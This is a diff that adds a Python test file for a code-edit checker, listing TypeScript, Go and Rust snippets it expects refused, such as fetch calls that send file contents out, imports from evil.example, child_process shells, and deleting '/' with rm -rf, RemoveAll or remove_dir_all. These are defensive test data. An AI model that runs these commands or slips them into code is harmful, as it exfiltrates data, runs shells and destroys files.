@@ -1,0 +1,347 @@
+"""Item 6 of issue 19 beyond Python: TypeScript / JavaScript / TSX, Go and Rust. Each attack is
+an edit of a function body checked by `check_edits`; each benign rewrite of code that already
+uses such calls must pass."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tests.unit.test_capabilities import edit, refused
+
+TS = """import { readFileSync } from "fs";
+import path from "node:path";
+
+export function loadConfig(file: string): Record<string, unknown> {
+  const text = readFileSync(path.resolve(file), "utf8");
+  return JSON.parse(text);
+}
+"""
+TS_BODY = """  const text = readFileSync(path.resolve(file), "utf8");
+  return JSON.parse(text);"""
+
+TS_ATTACKS = [
+    ("network", 'fetch("https://x/?d=" + text);'),
+    ("network", 'globalThis["fetch"]("https://x");'),
+    ("network", "window.fetch(file);"),
+    ("dynamic", 'self["fet" + "ch"];'),  # computed member of the global object
+    ("dynamic", "window[file](text);"),
+    ("network", "const f = globalThis.fetch; f(file);"),
+    ("network", "const { fetch: f } = globalThis; f(file);"),
+    ("network", "const g = globalThis; g.fetch(file);"),
+    ("network", "const x = new XMLHttpRequest();"),
+    ("network", 'new WebSocket("wss://x");'),
+    ("network", "navigator.sendBeacon(file, text);"),
+    ("process", 'require("child_process").execSync("id");'),
+    ("process", 'const cp = require("node:child_process"); cp.spawn("sh");'),
+    ("process", 'const { exec } = require("child_process"); exec("id");'),
+    ("process", 'const { exec: run } = require("child_process"); run("id");'),
+    ("process", 'const { ["ex" + "ec"]: run } = require("child_process");'),
+    ("dynamic", "const m = require(file);"),
+    ("dynamic", "const m = await import(file);"),
+    ("process", 'const cp = await import("child_process"); cp.exec("id");'),
+    ("process", 'import("node:child_process").then((m) => m.exec("id"));'),
+    ("network", 'import("https://evil.example/x.js");'),
+    ("dynamic", 'eval("1 + 1");'),
+    ("dynamic", "(0, eval)(text);"),
+    ("dynamic", 'new Function("return 1")();'),
+    ("dynamic", 'Function("return this")();'),
+    ("dynamic", '[].constructor.constructor("return 1")();'),
+    ("dynamic", 'setTimeout("alert(1)", 0);'),
+    ("dynamic", "setInterval(`fetch(${file})`, 10);"),
+    ("process", 'process.binding("spawn_sync");'),
+    ("dynamic", "process.mainModule.require(file);"),
+    ("ffi", 'process.dlopen(module, "x.node");'),
+    ("process", 'Deno.run({ cmd: ["id"] });'),
+    ("process", 'new Deno.Command("id").output();'),
+    ("process", 'Bun.spawn(["id"]);'),
+    ("network", 'Deno.connect({ hostname: "x", port: 1 });'),
+    ("dynamic", 'new Worker("data:text/javascript,1");'),
+    ("dynamic", 'const vm = require("vm"); vm.runInNewContext(text);'),
+    ("filesystem", 'require("fs").rmSync(file, { recursive: true });'),
+    ("filesystem", 'const fs = require("fs"); fs.unlinkSync(file);'),
+    ("network", 'const h = require("https"); h.get(file);'),
+    ("network", 'const { get } = require("http"); get(file);'),
+    ("network", "(window as any).fetch(file);"),
+    ("network", "window!.fetch(file);"),
+    ("network", "(<any>globalThis).fetch(file);"),
+    ("network", "window?.fetch?.(file);"),
+    ("network", "const o = { fetch }; o.fetch(file);"),
+    ("dynamic", "const g = globalThis; g[file]();"),
+]
+
+
+@pytest.mark.parametrize(("kind", "code"), TS_ATTACKS)
+def test_typescript_attacks_are_refused(kind: str, code: str) -> None:
+    body = f"  const text = readFileSync(path.resolve(file), 'utf8');\n  {code}\n  return {{}};"
+    assert f":{kind}:" in refused("ts", TS, TS_BODY, body)
+
+
+@pytest.mark.parametrize(
+    ("kind", "code"),
+    [a for a in TS_ATTACKS if "as any" not in a[1] and "<any>" not in a[1] and "!." not in a[1]],
+)
+def test_javascript_and_tsx_attacks_are_refused(kind: str, code: str) -> None:
+    js = TS.replace("(file: string): Record<string, unknown>", "(file)")
+    body = f"  const text = readFileSync(path.resolve(file), 'utf8');\n  {code}\n  return {{}};"
+    assert f"javascript:{kind}:" in refused("js", js, TS_BODY, body)
+    assert f"tsx:{kind}:" in refused("tsx", TS, TS_BODY, body)
+
+
+def test_typescript_imports_in_every_form_are_refused() -> None:
+    head = 'import { readFileSync } from "fs";\nimport path from "node:path";\n'
+    for line in [
+        'import cp from "node:child_process";',
+        'import * as cp from "child_process";',
+        'import { exec as run } from "child_process";',
+        'import "child_process";',
+        'import cp = require("child_process");',
+        'export { exec } from "child_process";',
+        'export * from "net";',
+        'import x from "https://evil.example/m.js";',
+    ]:
+        refused("ts", TS, head, head + line + "\n")
+
+
+TS_RUNS = """import { execFile } from "node:child_process";
+import * as http from "http";
+
+export function build(target: string): void {
+  execFile("make", [target]);
+  http.get("http://localhost:8080/built/" + target);
+}
+
+export function clean(target: string): void {
+  console.log(target);
+}
+"""
+
+
+def test_typescript_same_targets_and_renames_pass() -> None:
+    body = "  console.log(target);"
+    assert 'execFile("make"' in edit("ts", TS_RUNS, body, '  execFile("make", ["clean", target]);')
+    assert "http.get" in edit("ts", TS_RUNS, body, '  http.get("http://localhost/" + target);')
+    build = TS_RUNS[
+        TS_RUNS.index("export function build") : TS_RUNS.index("\n\nexport function clean")
+    ]
+    renamed = build.replace("target", "name").replace("build(", "buildTarget(")
+    assert "buildTarget" in edit("ts", TS_RUNS, build, renamed)
+    documented = "/** Builds one target with make. */\n" + build
+    assert "Builds one" in edit("ts", TS_RUNS, build, documented)
+    refused("ts", TS_RUNS, body, '  require("child_process").exec("rm -rf /");')
+    refused("ts", TS_RUNS, body, '  http.request("http://x");')  # http.get was there
+
+
+def test_typescript_plain_code_never_counts() -> None:
+    body = """  const request = { fetch: 1, eval: "x" };
+  const self2 = this;
+  function process(items: string[]) { return items.map((x) => x.trim()); }
+  setTimeout(() => console.log(request.fetch), 10);
+  const code = "fetch('http://x')"; // eval(code)
+  return { request, code };"""
+    assert "self2" in edit("ts", TS, TS_BODY, body)
+
+
+# -- Go ------------------------------------------------------------------------------------
+
+GO = """package report
+
+import (
+	"fmt"
+	"strings"
+)
+
+func Summary(items []string) string {
+	joined := strings.Join(items, ", ")
+	return fmt.Sprintf("%d items: %s", len(items), joined)
+}
+"""
+GO_BODY = GO[GO.index("\tjoined") : GO.index("\n}")]
+GO_ATTACKS = [
+    ("process", 'exec.Command("sh", "-c", "id").Run()'),
+    ("network", 'http.Get("http://x/?q=" + joined)'),
+    ("network", 'net.Dial("tcp", "x:1")'),
+    ("process", 'os.StartProcess("/bin/sh", nil, nil)'),
+    ("filesystem", 'os.RemoveAll("/")'),
+    ("ffi", 'syscall.Exec("/bin/sh", nil, nil)'),
+    ("ffi", "_ = unsafe.Pointer(&joined)"),
+    ("dynamic", 'plugin.Open("x.so")'),
+    ("network", "var c http.Client; _ = c"),
+    ("network", "_ = &http.Client{}"),
+]
+
+
+@pytest.mark.parametrize(("kind", "code"), GO_ATTACKS)
+def test_go_attacks_are_refused(kind: str, code: str) -> None:
+    body = f'\tjoined := strings.Join(items, ", ")\n\t{code}\n\treturn joined'
+    assert f"go:{kind}:" in refused("go", GO, GO_BODY, body)
+
+
+@pytest.mark.parametrize(
+    ("kind", "spec", "use"),
+    [
+        ("process", '"os/exec"', 'exec.Command("id")'),
+        ("process", 'run "os/exec"', 'run.Command("id")'),
+        ("network", '. "net/http"', 'Get("http://x")'),
+        ("network", '_ "net/http/pprof"', "fmt.Println()"),
+        ("ffi", '"C"', "fmt.Println()"),
+        ("ffi", '"unsafe"', "fmt.Println()"),
+        ("network", 'h "net/http"', 'h.Post("http://x", "", nil)'),
+    ],
+)
+def test_go_imports_in_every_form_are_refused(kind: str, spec: str, use: str) -> None:
+    new = GO.replace('\t"strings"\n', f'\t"strings"\n\t{spec}\n').replace(
+        "\treturn fmt", f"\t{use}\n\treturn fmt"
+    )
+    assert f"go:{kind}:" in refused("go", GO, GO, new)
+
+
+def test_go_directives_are_refused() -> None:
+    for directive, kind in (
+        ("//go:linkname now runtime.nanotime", "ffi"),
+        ("//go:generate sh -c id", "process"),
+    ):
+        new = GO.replace("func Summary", f"{directive}\nfunc Summary")
+        assert f"go:{kind}:" in refused("go", GO, GO, new)
+
+
+GO_RUNS = """package build
+
+import (
+	"net/http"
+	"os/exec"
+)
+
+func Build(target string) error {
+	if _, err := http.Get("http://localhost:8080/" + target); err != nil {
+		return err
+	}
+	return exec.Command("make", target).Run()
+}
+
+func Clean(target string) error {
+	return nil
+}
+"""
+
+
+def test_go_same_targets_and_renames_pass() -> None:
+    body = "\treturn nil"
+    assert "clean" in edit(
+        "go", GO_RUNS, body, '\treturn exec.Command("make", "clean", target).Run()'
+    )
+    build = GO_RUNS[GO_RUNS.index("func Build") : GO_RUNS.index("\n\nfunc Clean")]
+    renamed = build.replace("target", "name").replace("err", "e")
+    assert "name string" in edit("go", GO_RUNS, build, renamed)
+    refused("go", GO_RUNS, body, '\treturn exec.CommandContext(nil, "sh").Run()')
+
+
+# -- Rust ----------------------------------------------------------------------------------
+
+RS = """use std::collections::HashMap;
+
+pub fn count(words: &[&str]) -> HashMap<String, usize> {
+    let mut counts = HashMap::new();
+    for w in words {
+        *counts.entry(w.to_string()).or_insert(0) += 1;
+    }
+    counts
+}
+"""
+RS_BODY = """    let mut counts = HashMap::new();
+    for w in words {
+        *counts.entry(w.to_string()).or_insert(0) += 1;
+    }
+    counts"""
+RS_ATTACKS = [
+    ("process", 'std::process::Command::new("sh").arg("-c").arg("id").status().ok();'),
+    ("process", '::std::process::Command::new("id");'),
+    ("process", 'use std::process::Command; Command::new("id");'),
+    ("process", 'use std::process::Command as C; C::new("id");'),
+    ("process", 'use std::process::{self as p}; p::Command::new("id");'),
+    ("process", 'use std::process::*; Command::new("id");'),
+    ("process", 'use std::{process::{Command}}; Command::new("id");'),
+    ("network", 'std::net::TcpStream::connect("x:1").ok();'),
+    ("network", "let s: std::net::TcpStream = todo!();"),
+    ("network", 'reqwest::blocking::get("http://x").ok();'),
+    ("filesystem", 'std::fs::remove_dir_all("/").ok();'),
+    ("ffi", "unsafe { libc::system(std::ptr::null()); }"),
+    ("ffi", 'extern "C" { fn system(c: *const u8) -> i32; }'),
+    ("ffi", "let x = unsafe { std::mem::zeroed::<u8>() };"),
+    ("ffi", 'unsafe { std::arch::asm!("nop"); }'),
+    ("ffi", 'use std::arch::asm; unsafe { asm!("nop") };'),
+    ("dynamic", 'include!("/tmp/x.rs");'),
+    ("process", 'tokio::process::Command::new("id");'),
+]
+
+
+@pytest.mark.parametrize(("kind", "code"), RS_ATTACKS)
+def test_rust_attacks_are_refused(kind: str, code: str) -> None:
+    body = f"    let mut counts = HashMap::new();\n    {code}\n    counts"
+    assert f"rust:{kind}:" in refused("rs", RS, RS_BODY, body)
+
+
+def test_rust_item_level_ffi_is_refused() -> None:
+    for item in (
+        "extern crate libc;\nfn f() { unsafe { libc::getpid(); } }",
+        'extern "C" fn callback() {}',
+        "unsafe fn raw() {}",
+        "unsafe impl Send for Wrapper {}",
+        '#[link(name = "evil")]\nextern {}',
+        "#[no_mangle]\npub fn exported() {}",
+    ):
+        refused("rs", RS, RS, RS + "\n" + item + "\n")
+
+
+RS_RUNS = """use std::process::Command;
+
+pub fn build(target: &str) -> bool {
+    Command::new("make").arg(target).status().map(|s| s.success()).unwrap_or(false)
+}
+
+pub fn clean(target: &str) -> bool {
+    target.is_empty()
+}
+"""
+
+
+def test_rust_same_targets_and_renames_pass() -> None:
+    body = "    target.is_empty()"
+    new = '    Command::new("make").arg("clean").arg(target).status().is_ok()'
+    assert "clean" in edit("rs", RS_RUNS, body, new)
+    full = '    std::process::Command::new("make").status().is_ok()'  # the same, spelled in full
+    assert "std::process" in edit("rs", RS_RUNS, body, full)
+    build = RS_RUNS[RS_RUNS.index("pub fn build") : RS_RUNS.index("\n\npub fn clean")]
+    assert "name: &str" in edit("rs", RS_RUNS, build, build.replace("target", "name"))
+    refused("rs", RS_RUNS, body, "    std::process::exit(0); Command::spawn")
+    assert "exit" in edit("rs", RS_RUNS, body, "    std::process::exit(0)")  # not a capability
+
+
+# -- every name of the catalog, through hypothesis -------------------------------------------
+
+IDENT = st.from_regex(r"[a-z][a-z0-9]{0,6}", fullmatch=True).filter(
+    lambda s: s not in {"do", "if", "in", "for", "new", "var", "let", "try", "case", "else", "enum"}
+)
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    module=st.sampled_from(["child_process", "http", "https", "net", "dgram", "vm", "axios"]),
+    alias=IDENT,
+    member=IDENT,
+    form=st.integers(0, 4),
+)
+def test_ecmascript_modules_in_every_spelling_are_refused(
+    module: str, alias: str, member: str, form: int
+) -> None:
+    alias = f"{alias}_"  # never a global's name
+    code = [
+        f'const {alias} = require("{module}"); {alias}.{member}(file);',
+        f'const {{ {member}: {alias} }} = require("node:{module}"); {alias}(file);',
+        f'require("{module}")["{member}"](file);',
+        f'const {alias} = await import("{module}"); {alias}.{member}(file);',
+        f'(await import("{module}")).{member}(file);',
+    ][form]
+    body = f"  const text = readFileSync(path.resolve(file), 'utf8');\n  {code}\n  return {{}};"
+    refused("ts", TS, TS_BODY, body)
